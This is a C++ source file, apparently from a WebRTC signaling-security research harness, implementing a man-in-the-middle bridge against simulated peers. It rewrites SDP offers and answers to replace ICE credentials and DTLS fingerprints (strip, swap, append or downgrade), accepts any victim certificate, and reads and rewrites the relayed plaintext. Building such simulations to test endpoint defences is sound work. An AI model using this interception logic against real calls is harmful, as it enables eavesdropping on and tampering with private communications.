#include "attacks/mitm_bridge.hpp"

#include "attacks/sdp_rewrite.hpp"
#include "sim/dtls_endpoint.hpp"
#include "sim/ice_agent.hpp"

namespace sigtrust::attacks {

// One victim-facing leg: an ICE agent and a DTLS endpoint of the attacker's.
struct Leg {
  std::string victim;
  std::unique_ptr<IceAgent> ice;
  std::unique_ptr<DtlsEndpoint> dtls;
  std::optional<LocalIce> local;
  bool ready = false;
  std::vector<std::vector<std::uint8_t>> early_in, early_out;
  std::vector<std::string> pending_data;  // plaintext waiting for this leg to connect
};

struct MitmBridge::RoomBridge {
  MitmBridge& bridge;
  std::string room;
  Leg legs[2];  // 0: toward the offerer, 1: toward the answerer
  std::optional<sdp::Session> offer;
  Deliver deliver_offer;
  std::string offer_text;
  RelayedMessage offer_msg;
  bool offer_forwarded = false;

  RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {}

  AttackerSessionReport& report() { return bridge.world_.sessions[room]; }
  void event(const std::string& kind, const std::string& text) { bridge.world_.timeline.add(bridge.world_.name, kind, text); }

  void make_leg(int i, bool controlling) {
    Leg& leg = legs[i];
    leg.ice = std::make_unique<IceAgent>(
        bridge.world_.loop, IceOptions{bridge.world_.address, controlling, std::nullopt, std::nullopt, false},
        IceCallbacks{
            .on_gathered =
                [this, i](const LocalIce& l) {
                  legs[i].local = l;
                  maybe_forward_offer();
                },
            .on_state =
                [this, i](IceState s) {
                  if (s == IceState::Failed) event("attack.leg-failed", "ICE failed toward " + legs[i].victim);
                },
            .on_ready =
                [this, i](const SelectedPair& p) {
                  Leg& l = legs[i];
                  l.ready = true;
                  event("attack.leg-ready", "ICE toward " + l.victim + ": " + p.local + " -> " + p.remote);
                  auto out = std::move(l.early_out);
                  l.early_out.clear();
                  for (auto& d : out) l.ice->send(d);
                  if (l.dtls && l.dtls->role() == DtlsRole::Client) l.dtls->start();
                },
            .on_datagram =
                [this, i](std::span<const std::uint8_t> d) {
                  report().ciphertext_bytes += d.size();
                  Leg& l = legs[i];
                  if (l.dtls) l.dtls->receive(d);
                  else if (l.early_in.size() < 64) l.early_in.emplace_back(d.begin(), d.end());
                },
        });
    leg.ice->gather();
  }

  void make_dtls(int i, DtlsRole role) {
    Leg& leg = legs[i];
    leg.dtls = std::make_unique<DtlsEndpoint>(
        bridge.world_.loop, bridge.cert_, role,
        DtlsCallbacks{
            .send =
                [this, i](std::span<const std::uint8_t> d) {
                  Leg& l = legs[i];
                  if (!l.ready || !l.ice->send(d)) l.early_out.emplace_back(d.begin(), d.end());
                },
            // The attacker accepts whatever the victim presents: it only needs
            // the victim to accept *its* certificate.
            .verify = [](std::span<const std::uint8_t>) { return true; },
            .on_connected =
                [this, i] {
                  Leg& l = legs[i];
                  event("attack.leg-connected", "DTLS with " + l.victim + " established as " +
                                                    std::string(to_string(l.dtls->role())));
                  auto pending = std::move(l.pending_data);
                  l.pending_data.clear();
                  for (const auto& p : pending) l.dtls->send(p);
                },
            .on_failed = [this, i](const std::string& why) { event("attack.leg-failed", legs[i].victim + ": " + why); },
            .on_data = [this, i](std::string_view data) { relay_data(i, std::string(data)); },
            .on_closed = nullptr,
            .key_log = bridge.world_.key_log,
        });
    for (auto& d : leg.early_in) leg.dtls->receive(d);
    leg.early_in.clear();
    if (leg.ready && role == DtlsRole::Client) leg.dtls->start();
  }

  void relay_data(int from, std::string text) {
    text = read_plaintext(bridge.world_, report(), legs[from].victim, std::move(text));
    Leg& to = legs[1 - from];
    if (to.dtls && to.dtls->state() == DtlsEndpoint::State::Connected) to.dtls->send(text);
    else to.pending_data.push_back(std::move(text));
  }

  std::vector<sdp::Fingerprint> forged(const sdp::Session& original) {
    const auto& o = bridge.options_;
    std::vector<sdp::Fingerprint> fps;
    switch (o.style) {
      case FingerprintStyle::Strip: break;
      case FingerprintStyle::Swap:
        fps.push_back(*sdp::parse_fingerprint(bridge.cert_.fingerprint()));
        break;
      case FingerprintStyle::Append:
        fps = sdp::transport_info(original).fingerprints;
        fps.push_back(*sdp::parse_fingerprint(bridge.cert_.fingerprint()));
        break;
      case FingerprintStyle::Downgrade:
        if (auto fp = bridge.cert_.fingerprint(o.downgrade_hash)) fps.push_back(*fp);
        break;
    }
    return fps;
  }

  std::string fingerprint_action() const {
    switch (bridge.options_.style) {
      case FingerprintStyle::Swap: return "and its own fingerprint";
      case FingerprintStyle::Strip: return "and removed a=fingerprint";
      case FingerprintStyle::Append: return "and appended its own fingerprint";
      case FingerprintStyle::Downgrade: return "and its own fingerprint under " + bridge.options_.downgrade_hash;
    }
    return "";
  }

  std::string forge(const sdp::Session& original, const LocalIce& ice) {
    sdp::Session s = original;
    set_transport(s, ice);
    set_fingerprints(s, forged(original));
    for (const auto& a : bridge.options_.strip_attributes) {
      sdp::remove_all(s, -1, a);
      for (size_t k = 0; k < s.media.size(); ++k) sdp::remove_all(s, static_cast<int>(k), a);
    }
    return sdp::write(s);
  }

  void on_offer(const RelayedMessage& m, SignalingMessage msg, Deliver deliver) {
    auto parsed = sdp::parse(msg.sdp);
    if (!parsed) {
      event("attack.skipped", "cannot parse the offer: " + parsed.error().message + "; forwarded unchanged");
      return deliver(m.text);
    }
    legs[0].victim = m.from_label;
    legs[1].victim = m.to_label;
    auto info = sdp::transport_info(*parsed);
    offer = std::move(*parsed);
    offer_text = msg.sdp;
    offer_msg = m;
    deliver_offer = std::move(deliver);
    // Toward the offerer the attacker is the answering, controlled agent;
    // toward the answerer it is the offering, controlling one (RFC 8445 §6.1.1).
    make_leg(0, false);
    make_leg(1, true);
    if (info.ice_ufrag && info.ice_pwd) {
      auto added = legs[0].ice->set_remote(*info.ice_ufrag, *info.ice_pwd, info.candidates);
      if (!added) event("attack.leg-failed", "offerer's ICE data unusable: " + added.error().message);
    }
    maybe_forward_offer();
  }

  void maybe_forward_offer() {
    if (offer_forwarded || !offer || !legs[0].local || !legs[1].local) return;
    offer_forwarded = true;
    SignalingMessage out{SignalingMessage::Type::Offer, forge(*offer, *legs[1].local), {}};
    record_rewrite(bridge.world_.timeline, bridge.world_.name, offer_msg,
                   "substituted its ICE credentials and candidates, " + fingerprint_action() + ", in the offer",
                   offer_text, out.sdp);
    deliver_offer(serialize(out));
  }

  void on_answer(const RelayedMessage& m, SignalingMessage msg, const Deliver& deliver) {
    auto parsed = sdp::parse(msg.sdp);
    if (!parsed || !offer_forwarded) {
      event("attack.skipped", "cannot bridge this answer; forwarded unchanged");
      return deliver(m.text);
    }
    auto info = sdp::transport_info(*parsed);
    if (info.ice_ufrag && info.ice_pwd) {
      auto added = legs[1].ice->set_remote(*info.ice_ufrag, *info.ice_pwd, info.candidates);
      if (!added) event("attack.leg-failed", "answerer's ICE data unusable: " + added.error().message);
    }
    // The answerer chose its role; the attacker mirrors it toward the offerer,
    // so each victim gets the role its own a=setup implies.
    const bool answerer_active = info.setup.value_or("active") != "passive";
    make_dtls(1, answerer_active ? DtlsRole::Server : DtlsRole::Client);
    make_dtls(0, answerer_active ? DtlsRole::Client : DtlsRole::Server);
    SignalingMessage out{SignalingMessage::Type::Answer, forge(*parsed, *legs[0].local), {}};
    record_rewrite(bridge.world_.timeline, bridge.world_.name, m,
                   "substituted its ICE credentials and candidates, " + fingerprint_action() + ", in the answer",
                   msg.sdp, out.sdp);
    deliver(serialize(out));
  }
};

std::string read_plaintext(AttackWorld& world, AttackerSessionReport& report, const std::string& from,
                           std::string text) {
  report.plaintext_read.push_back(text);
  world.timeline.add(world.name, "attack.read", "read \"" + text.substr(0, 200) + "\" from " + from);
  for (const auto& r : world.rewrite) {
    const auto pos = r.from.empty() ? std::string::npos : text.find(r.from);
    if (pos == std::string::npos) continue;
    const std::string before = text;
    text.replace(pos, r.from.size(), r.to);
    report.rewritten.push_back(before + " -> " + text);
    world.timeline.add(world.name, "attack.rewrite-data",
                       "changed \"" + before.substr(0, 200) + "\" to \"" + text.substr(0, 200) + "\"");
  }
  return text;
}

MitmBridge::MitmBridge(AttackWorld& world, BridgeOptions options)
    : world_(world), options_(std::move(options)), cert_(world.name) {
  world_.registry.add(cert_.fingerprint(), world_.name);
}

MitmBridge::~MitmBridge() = default;

void MitmBridge::on_message(const RelayedMessage& m, Deliver deliver) {
  auto msg = parse_signaling(m.text);
  if (!msg) return deliver(m.text);
  auto& room = rooms_[m.room];
  if (!room) room = std::make_unique<RoomBridge>(*this, m.room);
  switch (msg->type) {
    case SignalingMessage::Type::Offer:
      if (room->offer) return deliver(m.text);  // one bridge per room
      return room->on_offer(m, std::move(*msg), std::move(deliver));
    case SignalingMessage::Type::Answer: return room->on_answer(m, std::move(*msg), deliver);
    default: return deliver(m.text);
  }
}

}  // namespace sigtrust::attacks
